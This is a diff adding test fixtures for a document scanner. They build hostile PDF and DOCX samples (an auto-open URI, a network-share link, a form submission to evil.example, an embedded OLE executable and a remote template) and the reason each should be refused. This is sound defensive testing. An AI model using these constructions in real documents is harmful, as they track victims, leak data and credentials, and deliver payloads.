@@ -311,3 +311,47 @@ SVG_PLAIN = (
     b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
     b'<rect width="10" height="10" fill="#0a0"/></svg>'
 )
+
+
+SUBMIT_WIDGET = (
+    "<< /Type /Annot /Subtype /Widget /FT /Btn /T (gui) /Rect [0 0 50 20] "
+    "/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>"
+)
+
+
+def issue_12_hostile_files() -> list[tuple[str, bytes, str]]:
+    """The hostile files issue 12 names: (name, content, the reason it is refused for)."""
+    return [
+        (
+            "pdf_open_action_uri",
+            raw_pdf("/OpenAction << /S /URI /URI (https://evil.example/track) >> "),
+            "pdf_auto_uri",
+        ),
+        (
+            "pdf_gotor_to_network_share",
+            link_pdf(r"<< /S /GoToR /F (\\\\attacker\\share\\bao-cao.pdf) /D [0 /Fit] >>"),
+            "pdf_remote",
+        ),
+        (
+            "pdf_submit_form",
+            raw_pdf("/AcroForm << /Fields [4 0 R] >> ", "/Annots [4 0 R] ", extra=(SUBMIT_WIDGET,)),
+            "pdf_submit",
+        ),
+        ("pdf_html_after_first_kilobyte", pdf_with_html_after_first_kilobyte(), "web_content"),
+        (
+            "docx_embedded_ole_executable",
+            docx_with_rels(
+                "document.xml",
+                ("oleObject", "embeddings/oleObject1.bin", False),
+                **{"word/embeddings/oleObject1.bin": OLE + EXE},
+            ),
+            "docx_ole",
+        ),
+        (
+            "docx_remote_attached_template",
+            docx_with_rels(
+                "settings.xml", ("attachedTemplate", "https://evil.example/mau.dotm", True)
+            ),
+            "docx_template",
+        ),
+    ]
